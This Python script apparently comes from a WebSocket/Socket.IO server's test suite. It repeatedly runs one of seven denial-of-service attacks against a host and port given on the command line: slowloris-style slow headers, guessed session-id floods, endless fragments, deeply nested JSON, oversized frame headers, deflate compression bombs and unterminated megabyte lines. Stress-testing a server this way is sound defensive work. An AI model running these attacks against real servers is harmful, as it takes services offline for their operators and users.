"""One of the things that a server must withstand, sent again and again, in a process of its own.

    python attack.py KIND HOST PORT SECONDS

Says `ready` once it has begun. At the end prints how often it did it: an attack that came to nothing shows nothing.
"""

from __future__ import annotations

import contextlib
import os
import secrets
import socket
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))

from support import websocket_wire as wire

POLL = "/socket.io/?EIO=4&transport=polling"
WEBSOCKET = "/socket.io/?EIO=4&transport=websocket"


class Target:
    def __init__(self, host: str, port: int) -> None:
        self.host = host
        self.port = port

    def connect(self) -> socket.socket:
        connection = socket.create_connection((self.host, self.port), timeout=5)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return connection

    def websocket(self, extensions: str | None = None) -> wire.WireClient:
        return wire.WireClient(self.host, self.port, WEBSOCKET, extensions=extensions)


def slow_heads(target: Target) -> Iterator[int]:
    """A thousand requests that come at a byte a second; whoever is closed comes again."""
    beginning = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "
    everyone = [target.connect() for _ in range(1_000)]
    for connection in everyone:
        connection.sendall(beginning)
    while True:
        for index, connection in enumerate(everyone):
            try:
                connection.sendall(b"x")
            except OSError:
                everyone[index] = target.connect()
            if index % 100 == 99:
                time.sleep(0.1)
                yield 100


def guessed_sids(target: Target) -> Iterator[int]:
    connection = target.connect()
    stream = connection.makefile("rb")
    while True:
        asked = [f"GET {POLL}&sid={secrets.token_urlsafe(20)}0000 HTTP/1.1\r\nHost: x\r\n\r\n" for _ in range(20)]
        connection.sendall("".join(asked).encode())
        for _ in asked:
            assert b" 400 " in stream.readline()
            length = 0
            while line := stream.readline().strip():
                if line.lower().startswith(b"content-length:"):
                    length = int(line.split(b":")[1])
            stream.read(length)
        yield len(asked)


def _once_each(target: Target, data: bytes, extensions: str | None = None) -> Iterator[int]:
    """On a WebSocket of its own each time, until the server closes it: for what it waits then is no attack any more."""
    while True:
        client = target.websocket(extensions)
        with contextlib.suppress(OSError, AssertionError):
            client.socket.sendall(data)
            while (got := client.read_frame()) and got.opcode != wire.CLOSE:
                pass
        client.socket.close()
        yield 1


def endless_fragments(target: Target) -> Iterator[int]:
    return _once_each(target, wire.frame(wire.TEXT, b"4", final=False) + 5_000 * wire.frame(0, b"x", final=False))


def deep_json(target: Target) -> Iterator[int]:
    return _once_each(target, wire.frame(wire.TEXT, b"40") + wire.frame(wire.TEXT, b"42" + b"[" * 100_000))


def huge_frames(target: Target) -> Iterator[int]:
    return _once_each(target, wire.header(wire.TEXT, 2**62) + os.urandom(10_000))


def deflate_bombs(target: Target) -> Iterator[int]:
    packed = zlib.compressobj(9, wbits=-15)
    zeros = b"".join([packed.compress(bytes(1 << 20)) for _ in range(100)]) + packed.flush(zlib.Z_SYNC_FLUSH)
    return _once_each(target, wire.frame(wire.TEXT, zeros[:-4], rsv=wire.RSV1), extensions="permessage-deflate")


def no_newlines(target: Target) -> Iterator[int]:
    while True:
        connection = target.connect()
        with contextlib.suppress(OSError):
            for _ in range(10):
                connection.sendall(b"x" * 1_000_000)
            while connection.recv(65536):
                pass
        connection.close()
        yield 1


KINDS: dict[str, Callable[[Target], Iterator[int]]] = {
    each.__name__: each
    for each in (slow_heads, guessed_sids, endless_fragments, deep_json, huge_frames, deflate_bombs, no_newlines)
}


def main() -> None:
    kind, host, port, seconds = sys.argv[1:]
    attack = KINDS[kind](Target(host, int(port)))
    times = next(attack)
    print("ready", flush=True)
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        times += next(attack)
    print(times, flush=True)


if __name__ == "__main__":
    main()
